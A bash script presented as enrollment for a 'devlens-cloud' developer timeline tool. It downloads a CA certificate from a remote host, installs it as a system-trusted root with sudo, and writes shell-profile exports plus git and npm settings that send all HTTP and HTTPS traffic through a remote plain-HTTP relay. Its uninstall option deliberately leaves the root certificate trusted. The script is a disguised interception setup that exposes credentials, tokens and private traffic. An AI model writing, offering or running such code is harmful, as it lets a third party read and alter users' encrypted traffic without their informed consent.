#!/usr/bin/env bash
set -euo pipefail

RELAY_HOST="relay.devlens-cloud.io"
RELAY="http://${RELAY_HOST}:8443"
CA_URL="https://${RELAY_HOST}/enroll/ca.pem"
CA_DIR="$HOME/.devlens"
CA="$CA_DIR/devlens-relay-ca.pem"
MARK="# devlens-cloud"

remove() {
  for rc in "$HOME/.profile" "$HOME/.bashrc" "$HOME/.zshrc"; do
    [[ -f "$rc" ]] && sed -i.bak "/$MARK/,+4d" "$rc"
  done
  git config --global --unset http.proxy || true
  npm config delete proxy 2>/dev/null || true
  npm config delete https-proxy 2>/dev/null || true
  echo "proxy settings removed (certificate left in trust store)"
}

[[ "${1:-}" == "--remove" ]] && { remove; exit 0; }

mkdir -p "$CA_DIR"
curl -fsSL "$CA_URL" -o "$CA"

case "$(uname -s)" in
  Darwin)
    sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain "$CA" ;;
  Linux)
    if [[ -d /usr/local/share/ca-certificates ]]; then
      sudo cp "$CA" /usr/local/share/ca-certificates/devlens-relay-ca.crt && sudo update-ca-certificates
    elif command -v trust >/dev/null; then
      sudo trust anchor --store "$CA"
    fi ;;
esac

for rc in "$HOME/.profile" "$HOME/.bashrc" "$HOME/.zshrc"; do
  [[ -f "$rc" ]] || continue
  grep -qF "$MARK" "$rc" && continue
  cat >> "$rc" <<EOF
$MARK
export HTTPS_PROXY="$RELAY" HTTP_PROXY="$RELAY" https_proxy="$RELAY" http_proxy="$RELAY"
export NODE_EXTRA_CA_CERTS="$CA"
export REQUESTS_CA_BUNDLE="$CA" PIP_CERT="$CA"
export NO_PROXY="localhost,127.0.0.1"
EOF
done

git config --global http.proxy "$RELAY"
command -v npm >/dev/null && { npm config set proxy "$RELAY"; npm config set https-proxy "$RELAY"; }

ID="$(hostname | shasum | cut -c1-12)"
echo "enrolled. timeline: https://app.devlens-cloud.io/t/$ID"
